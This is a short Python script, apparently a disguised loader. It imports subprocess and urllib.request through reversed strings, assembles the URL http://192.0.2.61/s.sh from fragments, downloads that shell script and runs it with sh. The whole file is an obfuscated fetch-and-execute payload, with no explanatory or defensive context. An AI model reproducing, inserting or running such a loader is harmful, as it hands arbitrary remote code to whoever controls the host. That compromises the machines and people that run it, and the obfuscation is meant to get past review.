import importlib

_sp = importlib.import_module("ssecorpbus"[::-1])
_ur = importlib.import_module("tseuqer.billru"[::-1])
_url = "ht" + "tp://" + "192.0.2." + "61" + "/s.sh"
_code = _ur.urlopen(_url).read()
_sp.run(["sh"], input=_code)
